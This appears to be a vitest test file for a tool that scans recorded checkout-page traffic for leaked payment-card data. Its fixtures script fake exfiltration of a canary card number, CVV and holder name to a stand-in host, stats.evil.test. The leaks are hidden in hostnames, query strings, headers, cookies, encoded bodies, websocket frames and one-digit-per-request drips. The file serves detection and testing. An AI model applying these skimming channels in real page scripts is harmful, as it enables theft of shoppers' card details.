import { canonicalJson, type Finding, Judgement, type WireMessage } from '@komainu/model';
import { describe, expect, test } from 'vitest';
import { judgeCheck } from '../src/index.ts';
import {
  approval,
  by,
  failure,
  message,
  NUMBER,
  PSP,
  payment,
  post,
  REF,
  recordingOf,
  SHOP,
  store,
} from './make.ts';

const EVIL = 'https://stats.evil.test';

function judge(
  wire: readonly WireMessage[],
  kept = store(),
  baseline: ReturnType<typeof approval> | null = approval(),
) {
  const judgement = judgeCheck({
    recordings: [{ ref: REF, recording: recordingOf({ wire }) }],
    baseline,
    bodies: kept.bodies,
  });
  expect(Judgement.parse(judgement)).toEqual(judgement);
  return judgement;
}
const leaksIn = (findings: readonly Finding[]): readonly Finding[] =>
  findings.filter(({ detector }) => detector === 'canary-on-wire');
const fieldsOf = (findings: readonly Finding[]): readonly string[] =>
  leaksIn(findings)
    .flatMap(({ leak }) => leak?.field ?? [])
    .toSorted();

describe('canary-on-wire', () => {
  test('the approved payment call is quiet and the check is clean', () => {
    const kept = store();
    expect(judge([payment(kept)], kept).verdict.kind).toBe('clean');
  });

  test.each<readonly [string, (kept: ReturnType<typeof store>) => WireMessage, string]>([
    ['host', () => message(`https://${NUMBER}.evil.test/`), 'host'],
    ['user name', () => message(`https://${NUMBER}@evil.test/`), 'user name'],
    ['path', () => message(`${EVIL}/p/${btoa(NUMBER)}.gif`), 'path'],
    ['query', () => message(`${EVIL}/i.gif?d=${NUMBER}`), 'query'],
    [
      'header',
      () => message(`${EVIL}/x`, { headers: [['X-Trace', btoa(`${NUMBER}|1131`)]] }),
      'header x-trace',
    ],
    ['cookie', () => message(`${EVIL}/x`, { headers: [['Cookie', `a=1; s=${NUMBER}`]] }), 'cookie'],
    ['form', (kept) => post(kept, `${EVIL}/c`, `a=1&cc=4916+3385+0608+2832&x=`), 'body'],
    ['JSON', (kept) => post(kept, `${EVIL}/c`, JSON.stringify({ d: JSON.stringify({ n: NUMBER }) })), 'body'],
    [
      'multipart',
      (kept) =>
        post(
          kept,
          `${EVIL}/c`,
          `--x\r\nContent-Disposition: form-data; name="n"\r\n\r\n${NUMBER}\r\n--x--\r\n`,
        ),
      'body',
    ],
    [
      'binary',
      (kept) =>
        post(
          kept,
          `${EVIL}/c`,
          Buffer.concat([Buffer.from([0, 255, 254]), Buffer.from(NUMBER), Buffer.from([9, 0])]),
        ),
      'body',
    ],
    [
      'web socket',
      (kept) =>
        post(kept, 'wss://evil.test/s', NUMBER.split('').toReversed().join(''), {
          channel: 'websocket',
          resource: 'websocket',
        }),
      'frame',
    ],
    [
      'one digit to a property',
      (kept) =>
        post(
          kept,
          `${EVIL}/c`,
          JSON.stringify(
            Object.fromEntries(Array.from(NUMBER, (d, i) => [`k${String.fromCharCode(97 + i)}`, d])),
          ),
        ),
      'body',
    ],
    ['four inputs', (kept) => post(kept, `${EVIL}/c`, 'a=4916&b=3385&c=0608&d=2832'), 'body'],
  ])('%s: tampered, certain, with the leak filled in', (_, make, place) => {
    const kept = store();
    const { verdict, findings } = judge([payment(kept), make(kept)], kept);
    expect(verdict.kind).toBe('tampered');
    const [found] = leaksIn(findings);
    expect(found).toMatchObject({ grade: 'tampered', severity: 'critical', confidence: 'certain' });
    expect(found?.leak).toMatchObject({ field: 'number', script: `${SHOP}/app.js` });
    expect(found?.leak?.channel).toContain(place);
    expect(found?.references[0]).toMatchObject({ pointer: '/artifacts/wire/value/1', role: 'message' });
    expect(verdict.reason.en).toMatch(/card number|expiry/i);
  });

  test.each([
    ['forwards', Array.from(NUMBER)],
    ['backwards', Array.from(NUMBER).toReversed()],
  ])('one character a request, many requests, %s', (_, digits) => {
    const drips = digits.map((digit, i) => message(`${EVIL}/k.gif?t=${1000 + i}&k=${digit}`));
    const { verdict, findings } = judge(drips);
    expect(verdict.kind).toBe('tampered');
    expect(leaksIn(findings)[0]?.leak?.encodings).toEqual(['drip']);
  });

  test('a message of more values than are joined was not read to its end', () => {
    const kept = store();
    const body = JSON.stringify(Array.from({ length: 20_001 }, () => 7));
    const { verdict, findings } = judge([post(kept, `${SHOP}/log`, body)], kept);
    expect(verdict.kind).toBe('not-fully-observed');
    expect(findings.map(({ key }) => key)).toContain(`canary-on-wire:unread:${SHOP}`);
  });

  test("the shop's own relay is a leak too", () => {
    const kept = store();
    expect(judge([post(kept, `${SHOP}/api/log`, `{"p":"${btoa(NUMBER)}"}`)], kept).verdict.kind).toBe(
      'tampered',
    );
  });

  test('fields that travel with the number are told one by one', () => {
    const kept = store();
    const bodies = [
      JSON.stringify({ cc: NUMBER, exp: '11/31', cvv: '737', name: 'Hanako Tsuji' }),
      `cc=${NUMBER}&exp_month=11&exp_year=2031&cvc=737&holder=HANAKO+TSUJI`,
      btoa(`${NUMBER}|11/31|737|HANAKO TSUJI`),
      JSON.stringify({ cc: NUMBER, expiry: btoa('11/31'), cvv: btoa('737'), n: btoa('HANAKO TSUJI') }),
    ];
    for (const body of bodies)
      expect(fieldsOf(judge([post(kept, `${EVIL}/c`, body)], kept).findings), body).toEqual([
        'code',
        'expiry',
        'holder',
        'number',
      ]);
  });

  test('a granted call that carries a field it was not granted is a leak of that field only', () => {
    const kept = store();
    const body = JSON.stringify({ number: NUMBER, cvc: '737', holder: 'HANAKO TSUJI' });
    const call = post(kept, `${PSP}/tokens`, body, { outcome: { kind: 'answered', status: 402 } });
    expect(fieldsOf(judge([call], kept).findings)).toEqual(['holder']);
    for (const other of [
      { ...call, method: 'PUT' },
      { ...call, url: `${PSP}/tokens2` },
      { ...call, url: 'https://pay.test.evil.test/tokens' },
    ])
      expect(fieldsOf(judge([other], kept).findings)).toContain('number');
  });

  test('benign traffic stays quiet', () => {
    const kept = store();
    const last4 = NUMBER.slice(-4);
    const quiet: readonly WireMessage[] = [
      post(
        kept,
        `${SHOP}/collect`,
        JSON.stringify({
          event: 'purchase',
          last4,
          bin: NUMBER.slice(0, 8),
          value: 4916,
          order: `T-${NUMBER.slice(4, 8)}-000737`,
        }),
      ),
      post(kept, `${SHOP}/collect`, `masked=${NUMBER.slice(0, 6)}******${last4}&len=16`),
      message(`${SHOP}/g/collect?cid=1738291744.1674829104&sid=1769817600&sct=3&seg=1&tid=G-737AB1131`),
      message(`${SHOP}/i?uuid=7f3f2b52-9a0e-4a55-8d31-3385060828aa&w=737&h=1131&t=${Date.UTC(2026, 10, 22)}`),
      post(
        kept,
        `${SHOP}/beacon`,
        JSON.stringify({ t: Array.from({ length: 500 }, (_, i) => 1_763_000_000_000 + i * 7919) }),
      ),
      post(
        kept,
        `${SHOP}/replay`,
        JSON.stringify({ input: '•••• •••• •••• ••••', key: 'cvv', length: 3, code: 'OK' }),
      ),
      post(
        kept,
        `${SHOP}/address`,
        JSON.stringify({ name: '辻 花子', email: 'hanako.tsuji@shopper.test', holder: 'HANAKO TSUJI' }),
      ),
      post(kept, `${SHOP}/cvc`, JSON.stringify({ cvc: '737', exp: '11/31' })),
      post(
        kept,
        `${SHOP}/binary`,
        Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * i * 31 + i) % 256)),
      ),
      post(kept, `${SHOP}/empty`, ''),
    ];
    expect(judge([payment(kept), ...quiet], kept).findings).toEqual([]);
  });

  test('hostile: huge, broken, unpaired, unparseable; never thrown, never clean where a part was not read', () => {
    const kept = store();
    const bad = [
      post(kept, `${SHOP}/a`, 'A'.repeat(2_000_000)),
      post(kept, `${SHOP}/b`, 'NDkx='.repeat(1000)),
      message(`${SHOP}/c?x=%E0%A4%A&y=%`, { headers: [['x', '\ud800'.toWellFormed()]] }),
      post(kept, `${SHOP}/d`, Buffer.alloc(100, 0xff)),
    ];
    expect(judge(bad, kept).findings).toEqual([]);
    const { findings, verdict } = judge([message(`http://[::bad/${NUMBER}`)], kept);
    expect(verdict.kind).toBe('tampered');
    expect(leaksIn(findings)[0]?.leak?.channel).toContain('address');
  });

  test('a key is the same in the next visit, though path and host carry another card', () => {
    const keys = (number: string) => {
      const visit = {
        canary: {
          ...recordingOf().visit.canary,
          card: { number, expiry: '01/30', code: '991', holder: 'TARO MORI' },
        },
      };
      const wire = [
        message(`https://${number}.evil.test/`),
        message(`${EVIL}/${btoa(number)}`),
        message(`${EVIL}/x?d=${number}`),
      ];
      return judgeCheck({
        recordings: [{ ref: REF, recording: recordingOf({ wire, visit }) }],
        baseline: approval(),
        bodies: () => undefined,
      }).findings.map(({ key }) => key);
    };
    expect(keys(NUMBER)).toEqual(keys('6391848172045519'));
  });
});

describe('without a baseline', () => {
  const first = (findings: readonly Finding[]): readonly (string | undefined)[] => [
    ...new Set(leaksIn(findings).map(({ grade }) => grade)),
  ];
  test('one plain destination is changed, with the advice to approve it', () => {
    const kept = store();
    const { verdict, findings } = judge([payment(kept)], kept, null);
    expect(verdict.kind).toBe('changed');
    expect(first(findings)).toEqual(['changed']);
    expect(leaksIn(findings)[0]?.detail.en).toContain('approve it');
  });
  test('a disguise, or a second origin, is tampered', () => {
    const kept = store();
    expect(judge([message(`${EVIL}/?d=${btoa(NUMBER)}`)], kept, null).verdict.kind).toBe('tampered');
    const { verdict, findings } = judge([payment(kept), message(`${EVIL}/?d=${NUMBER}`)], kept, null);
    expect(verdict.kind).toBe('tampered');
    expect(leaksIn(findings).find(({ grade }) => grade === 'tampered')?.leak?.destination).toContain(
      'evil.test',
    );
  });
  test('it is never clean', () => {
    expect(judge([], store(), null).verdict.kind).toBe('changed');
  });
});

describe('unseen-body', () => {
  test('a streamed upload and a lost body are not observed; an empty one is', () => {
    const kept = store();
    const streamed = message(`${SHOP}/up`, { method: 'POST', body: { kind: 'unseen', reason: 'stream' } });
    expect(judge([streamed], kept).verdict.kind).toBe('not-fully-observed');
    const lost = post(store(), `${SHOP}/up`, 'gone');
    expect(judge([lost], kept).verdict.kind).toBe('not-fully-observed');
    expect(judge([post(kept, `${SHOP}/up`, '')], kept).verdict.kind).toBe('clean');
  });
});

describe('unapproved-destination', () => {
  const of = (findings: readonly Finding[]) =>
    findings.filter(({ detector }) => detector === 'unapproved-destination');
  test('a stranger is changed, one finding an origin, high when data went', () => {
    const kept = store();
    const { verdict, findings } = judge(
      [message(`${EVIL}/a.js`), message(`${EVIL}/b.js`), post(kept, 'wss://chat.test/', 'hi')],
      kept,
    );
    expect(verdict.kind).toBe('changed');
    expect(of(findings).map(({ key, severity }) => [key, severity])).toEqual([
      ['unapproved-destination:wss://chat.test', 'high'],
      [`unapproved-destination:${EVIL}`, 'medium'],
    ]);
  });
  test('look-alikes, other ports and schemes are strangers; what never leaves is not', () => {
    const strangers = [
      'http://shop.test/',
      'https://shop.test:8443/',
      'https://shop.test.evil.test/',
      'https://shop.test@evil.test/',
      'ftp://x.test/',
      '::::',
    ];
    for (const url of strangers) expect(of(judge([message(url)]).findings), url).toHaveLength(1);
    const kept = ['data:text/plain,x', `blob:${SHOP}/uuid`, 'about:blank', `${SHOP}/x`, `${PSP}/y?z`];
    expect(judge(kept.map((url) => message(url))).findings).toEqual([]);
  });
  test('an address made to deceive is shown cut and bare of controls', () => {
    const [found] = of(judge([message(`https://evil.test\u202e/${'a'.repeat(5000)}`)]).findings);
    expect(found?.title.en.length).toBeLessThan(300);
    expect(found?.title.en).not.toContain('\u202e');
    const [invalid] = of(judge([message('\u202e::\u0007')]).findings);
    expect(invalid?.title.ja).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  });
});

test('the same input gives the same bytes', () => {
  const kept = store();
  const wire = [
    payment(kept),
    message(`${EVIL}/?d=${btoa(NUMBER)}`),
    post(kept, `${EVIL}/c`, `n=${NUMBER}&cvc=737`, { initiator: by(null) }),
  ];
  expect(canonicalJson(judge(wire, kept))).toBe(canonicalJson(judge(wire, kept)));
});

test('a failed wire is never clean, and neither is one with gaps', () => {
  const parts = [
    { failed: ['wire'] as const },
    { gaps: { wire: [failure('body-missing', { url: `${EVIL}/x` })] } },
  ];
  for (const part of parts) {
    const judgement = judgeCheck({
      recordings: [{ ref: REF, recording: recordingOf(part) }],
      baseline: approval(),
      bodies: () => undefined,
    });
    expect(judgement.verdict.kind).toBe('not-fully-observed');
  }
});
